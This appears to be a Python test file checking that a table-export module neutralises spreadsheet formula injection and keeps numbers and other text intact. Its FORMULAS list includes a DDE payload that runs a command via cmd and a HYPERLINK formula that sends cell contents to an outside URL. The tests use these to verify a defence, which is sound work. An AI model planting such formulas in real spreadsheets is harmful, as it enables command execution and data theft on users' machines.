"""Tables as text: what a spreadsheet reads is what was meant, and no name is a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from mamol.core.text import figure, sensors_named, table_text

FORMULAS = ('=HYPERLINK("http://example.org/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", " =1+1", "\t=1+1",
            "\u00a0=1+1", "\uff1d1+1", "-", "=")  # fmt: skip


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("delimiter", [",", "\t"])
@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_begins_as_a_formula_is_text(name: str, delimiter: str) -> None:
    assert read(table_text([("class", name)], delimiter), delimiter) == [["class", "'" + name]]


@given(st.floats(allow_nan=False))
def test_figures_are_never_changed(value: float) -> None:
    for written in (figure(value), f"{value:.6f}", f"{value:+.3g}", repr(value)):
        assert read(table_text([(written, "x")])) == [[written, "x"]]


def test_a_line_break_begins_no_new_cell() -> None:
    assert read(table_text([("corn\r=1+1", "\r\n=1", "a\nb")])) == [["corn =1+1", "' =1", "a b"]]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1, max_size=4))
def test_every_other_text_comes_back_as_it_was(cells: list[str]) -> None:
    [row] = read(table_text([["head", *cells]]))
    for cell, written in zip(["head", *cells], row, strict=True):
        one_line = " ".join(cell.splitlines())
        assert written == one_line or (
            written == "'" + one_line and one_line.strip()[0] in "=+-@\uff1d\uff0b\uff0d\uff20"
        )


def test_sensors_and_their_bits_come_from_a_legend_of_patterns() -> None:
    assert sensors_named({1: "SAR", 3: "SAR + DSM", 7: "SAR + DSM + S2"}) == {"SAR": 1, "DSM": 2, "S2": 4}
    assert sensors_named({0: "none", 2: "a + b"}) == {}
